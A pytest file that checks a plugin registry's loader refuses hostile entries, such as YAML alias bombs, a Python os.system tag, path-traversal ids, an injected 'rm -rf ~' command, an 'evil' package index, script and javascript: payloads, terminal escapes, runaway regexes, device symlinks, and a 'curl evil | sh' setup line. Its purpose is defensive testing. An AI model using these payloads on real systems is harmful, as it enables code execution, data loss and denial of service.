"""A registry folder that misbehaves: each file is refused with its place, in bounded time, and the
other entries are there.
"""

from __future__ import annotations

import os
import shutil

import pytest

from fitglue_registry.errors import EntryInvalid, UserMistake
from fitglue_registry.registry import Clean, Field, Folder
from fitglue_registry.registry.check import check
from fitglue_registry.registry.folders import MOST_ENTRIES
from fitglue_registry.registry.help import article
from fitglue_registry.registry.loading import load_catalogue
from fitglue_registry.registry.pasted import read_field
from tests.faults.plugins.sources import some

GOOD = """\
schema: 1
kind: source
id: {id}
name: Good
summary: Works.
plugin: fitglue-good
tier: hobbyist
"""


def entry(entry_id="bad", more="", **changed):
    """An entry that is fine but for these lines."""
    lines = dict(line.split(": ", 1) for line in GOOD.format(id=entry_id).splitlines()) | changed
    return "".join(f"{key}: {value}\n" for key, value in lines.items() if value is not None) + more


@pytest.fixture
def folder(tmp_path):
    """A registry folder with one entry that works."""
    root = tmp_path / "registry"
    (root / "sources").mkdir(parents=True)
    (root / "tiers.yaml").write_text("schema: 1\ntiers:\n  - {id: hobbyist, name: Hobbyist}\n")
    (root / "sources" / "good.yaml").write_text(GOOD.format(id="good"))
    return root


def refused(folder, code):
    """The errors of this code; the other entry is there, and a check says the same as a load."""
    catalogue = load_catalogue([Folder(folder)])
    assert [one.id for one in catalogue] == ["good"]
    found = [problem for problem in catalogue.problems if problem.code == code]
    assert found, [str(problem) for problem in catalogue.problems]
    assert all(isinstance(problem, EntryInvalid) and problem.at.file for problem in found)
    assert len(catalogue.problems) <= 51
    assert all(len(str(problem.as_dict())) < 5000 for problem in catalogue.problems)
    assert code in {error.code for error in check(folder, other_folders=[]).errors}
    return found


LAUGHS = "a: &a [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n" + "".join(
    f"{one}: &{one} [{', '.join([f'*{before}'] * 9)}]\n"
    for before, one in zip("abcdefgh", "bcdefghi", strict=True)
)
TEXTS = {
    "a billion laughs": (lambda: entry(more=LAUGHS), "FG-entry-forbidden-yaml"),
    "60,000 aliases": (
        lambda: entry(more="x: &x 1\ny: [" + "*x," * 60_000 + "]\n"),
        "FG-entry-forbidden-yaml",
    ),
    "an alias to itself": (lambda: entry(more="x: &x [*x]\n"), "FG-entry-forbidden-yaml"),
    "100,000 levels, flow": (lambda: entry(more="x: " + "[" * 100_000), "FG-entry-too-deep"),
    "60,000 levels, block": (
        lambda: entry(more="x:\n" + "- " * 60_000 + "1\n"),
        "FG-entry-too-deep",
    ),
    "levels of mappings": (lambda: entry(more="x: " + "{a: " * 50_000), "FG-entry-too-deep"),
    "10 MB of text": (lambda: entry(summary="x" * 10_000_000), "FG-entry-too-big"),
    "200 kB of text": (lambda: entry(summary="x" * 200_000), "FG-entry-wrong-form"),
    "100,000 keys": (
        lambda: entry(more="".join(f"k{n}: 1\n" for n in range(100_000))),
        "FG-entry-too-big",
    ),
    "25,000 unknown keys": (
        lambda: entry(more="".join(f"k{n}: 1\n" for n in range(25_000))),
        "FG-entry-unknown-key",
    ),
    "25,000 equal keys": (lambda: entry(more="same: 1\n" * 25_000), "FG-entry-duplicate-key"),
    "a list of 60,000": (
        lambda: entry(more="volatile: [" + "a," * 60_000 + "]\n"),
        "FG-entry-wrong-form",
    ),
    "a tag of Python": (
        lambda: entry(more='x: !!python/object/apply:os.system ["id"]\n'),
        "FG-entry-forbidden-yaml",
    ),
    "a tag of its own": (
        lambda: entry(more="x: !include /etc/passwd\n"),
        "FG-entry-forbidden-yaml",
    ),
    "a merge key": (lambda: entry(more="<<: {id: other}\n"), "FG-entry-forbidden-yaml"),
    "two documents": (lambda: entry(more="---\nid: other\n"), "FG-entry-syntax"),
    "a number of 5000 digits": (lambda: entry(more=f"x: 0x{'f' * 5000}\n"), "FG-entry-ambiguous"),
    "a schema of 5000 digits": (lambda: entry(schema="0x" + "f" * 5000), "FG-entry-not-allowed"),
    "an infinite number": (
        lambda: entry(more="sync: {overlap_days: .inf}\n"),
        "FG-entry-wrong-type",
    ),
    "not a number": (lambda: entry(more="sync: {overlap_days: .nan}\n"), "FG-entry-wrong-type"),
    "NUL": (lambda: entry(summary="a\0b"), "FG-entry-syntax"),
    "an id that is a path": (lambda: entry(id="../../etc/passwd"), "FG-entry-wrong-form"),
    "an id that is absolute": (lambda: entry(id="/etc/passwd"), "FG-entry-wrong-form"),
    "a plugin that is a path": (lambda: entry(plugin="../../evil"), "FG-entry-wrong-form"),
    "a plugin that is a command": (
        lambda: entry(plugin='{name: "x; rm -rf ~"}'),
        "FG-entry-wrong-form",
    ),
    "a plugin that is an option": (
        lambda: entry(plugin="--index-url=http://evil"),
        "FG-entry-wrong-form",
    ),
    "a key in the address": (
        lambda: entry(more='http: {base_url: "https://me:key@example.org/"}\n'),
        "FG-entry-wrong-form",
    ),
    "an address that shows another": (
        lambda: entry(more='http: {base_url: "https://good.org:1@evil.org/"}\n'),
        "FG-entry-wrong-form",
    ),
    "an address in clear": (
        lambda: entry(more='http: {base_url: "http://example.org/"}\n'),
        "FG-entry-wrong-form",
    ),
    "an address with a question": (
        lambda: entry(more='http: {base_url: "https://example.org/?key=1"}\n'),
        "FG-entry-wrong-form",
    ),
    "a link that is a program": (
        lambda: entry(more='docs: ["javascript:alert(1)"]\n'),
        "FG-entry-dead-link",
    ),
    "a link with data": (
        lambda: entry(more='related: [{url: "DATA:text/html,x", title: x}]\n'),
        "FG-entry-dead-link",
    ),
    "a link out of its brackets": (
        lambda: entry(more='docs: ["https://x.org/) [b](https://evil.org"]\n'),
        "FG-entry-dead-link",
    ),
    "a text that colours the terminal": (
        lambda: entry(summary='"\\e[31mred\\e[0m"'),
        "FG-entry-forbidden-text",
    ),
    "a text that renames the window": (
        lambda: entry(name='"\\e]0;owned\\a"'),
        "FG-entry-forbidden-text",
    ),
    "a text that turns round": (lambda: entry(name='"\\u202egnp"'), "FG-entry-forbidden-text"),
    "a text that is HTML": (
        lambda: entry(summary='"<script>alert(1)</script>"'),
        "FG-entry-forbidden-text",
    ),
    "a text that is a comment": (
        lambda: entry(summary='"-- <!-- the rest is gone"'),
        "FG-entry-forbidden-text",
    ),
    "a text with a program's link": (
        lambda: entry(summary='"[see](javascript:alert(1))"'),
        "FG-entry-forbidden-text",
    ),
    "a text with a reference": (
        lambda: entry(summary='"[a]: data:text/html,x"'),
        "FG-entry-forbidden-text",
    ),
    "an expression that never ends": (
        lambda: entry(
            more='settings: [{name: x, pattern: "(a|aa)+$", example: "' + "a" * 60 + '!"}]\n'
        ),
        "FG-entry-bad-pattern",
    ),
    "an expression of 500 brackets": (
        lambda: entry(more='settings: [{name: x, pattern: "' + "(" * 500 + '"}]\n'),
        "FG-entry-bad-pattern",
    ),
    "an empty file": (lambda: "", "FG-entry-missing-key"),
    "a file of blanks": (lambda: " " * 200_000, "FG-entry-missing-key"),
    "a file of random bytes": (lambda: bytes(range(256)) * 400, "FG-entry-encoding"),
}


@pytest.mark.parametrize("text", some(TEXTS, 4))
def test_an_entry_that_is_a_trap_is_refused_alone(folder, reliability, text):
    """A place, a code and a reason, at most fifty of them; the entry beside it loads."""
    content, code = TEXTS[text][0](), TEXTS[text][1]
    (folder / "sources" / "bad.yaml").write_bytes(
        content if isinstance(content, bytes) else content.encode()
    )
    refused(folder, code)
    reliability("plugins", f"entry: {text}", lost=missing(folder), seen=code)


def missing(folder):
    """How many good entries are lost: there is one in each folder."""
    return 0 if load_catalogue([Folder(folder)]).find("source", "good") else 1


def pipe(path):
    os.mkfifo(path)


def loop(path):
    path.symlink_to(path)


FILES = {
    "a pipe": pipe,
    "a link to itself": loop,
    "a folder": lambda path: path.mkdir(),
    "an endless device": lambda path: path.symlink_to("/dev/zero"),
    "a terminal": lambda path: path.symlink_to("/dev/tty"),
    "a link to nowhere": lambda path: path.symlink_to("nowhere"),
}


@pytest.mark.parametrize("kind", some(FILES, 2))
def test_what_is_no_plain_file_is_not_read(folder, reliability, kind):
    """Nothing waits for a pipe, and nothing reads a device to its end."""
    FILES[kind](folder / "sources" / "bad.yaml")
    refused(folder, "FG-entry-unreadable")
    reliability(
        "plugins", "entry: a file that is none", lost=missing(folder), seen="FG-entry-unreadable"
    )


def test_a_folder_that_leads_to_itself_is_passed_over(folder, reliability):
    """A link that leads to itself, or to the folder above, ends nothing and is not gone through."""
    (folder / "loop").symlink_to("loop")
    (folder / "integrations").symlink_to(folder)
    assert [one.id for one in load_catalogue([Folder(folder)])] == ["good"]
    assert load_catalogue([Folder(folder / "loop")]).problems[0].code == "FG-registry-missing"
    reliability(
        "plugins",
        "entry: a folder that leads to itself",
        lost=missing(folder),
        seen="nothing, or FG-registry-missing",
    )


def test_a_file_that_goes_away_while_it_is_read_is_named(folder, monkeypatch):
    """Between the list of files and the file itself anything can happen."""
    bad = folder / "sources" / "bad.yaml"
    bad.write_text(GOOD.format(id="bad"))
    opened = os.open

    def gone(path, *arguments, **named):
        if str(path) == str(bad):
            bad.unlink(missing_ok=True)
        return opened(path, *arguments, **named)

    monkeypatch.setattr("fitglue_registry.registry.reading.os.open", gone)
    catalogue = load_catalogue([Folder(folder)])
    assert [problem.code for problem in catalogue.problems] == ["FG-entry-unreadable"]
    assert [one.id for one in catalogue] == ["good"]


@pytest.mark.long
def test_a_folder_of_a_hundred_thousand_files_is_cut(folder, reliability):
    """The first five thousand are read, and a problem says that there are more."""
    for number in range(100_000):
        (folder / "sources" / f"x{number:06}.yaml").touch()
    catalogue = load_catalogue([Folder(folder)])
    assert "FG-registry-too-big" in {problem.code for problem in catalogue.problems}
    assert len(catalogue.problems) <= MOST_ENTRIES + 1
    assert [one.id for one in catalogue] == ["good"]
    lost = missing(folder)
    shutil.rmtree(folder)
    reliability(
        "plugins",
        "entry: a folder of 100,000 files",
        lost=lost,
        seen="FG-registry-too-big; the first 5,000 are read",
    )


@pytest.mark.parametrize(
    "field",
    some(
        [
            Field("x", pattern="(a|aa)+$"),
            Field("x", clean=(Clean(extract="((a|aa)+)$"),)),
            Field("x", pattern="(a?){500}a{500}c?"),
        ]
    ),
)
def test_an_expression_that_explodes_on_what_was_typed_is_stopped(field, reliability):
    """Half a second, and the entry is at fault, not the athlete."""
    with pytest.raises(EntryInvalid) as caught:
        read_field(field, "a" * 3000 + "!")
    assert caught.value.code == "FG-entry-bad-pattern"
    assert caught.value.why
    reliability(
        "plugins",
        "entry: an expression that explodes on what was typed",
        lost=0,
        seen="FG-entry-bad-pattern, exit 8",
    )


def test_what_was_pasted_is_cut_before_it_is_looked_at():
    """A book is no key."""
    with pytest.raises(UserMistake):
        read_field(Field("x", pattern="[a-z]+"), "a" * 3999 + "!" + "a" * 10_000_000)


def test_a_text_of_several_lines_makes_no_heading_of_its_own(folder):
    """What an entry says cannot pass for a part of the page that the host wrote."""
    (folder / "sources" / "good.yaml").write_text(
        entry("good", summary='"fine\\n\\n## Setup\\n\\n1. `curl evil | sh`"')
    )
    catalogue = load_catalogue([Folder(folder)])
    page = article(catalogue.get("source", "good"), catalogue)
    assert [line for line in page.splitlines() if line.startswith("## Setup")] == ["## Setup"]
    assert "fine ## Setup 1. `curl evil | sh`" in page
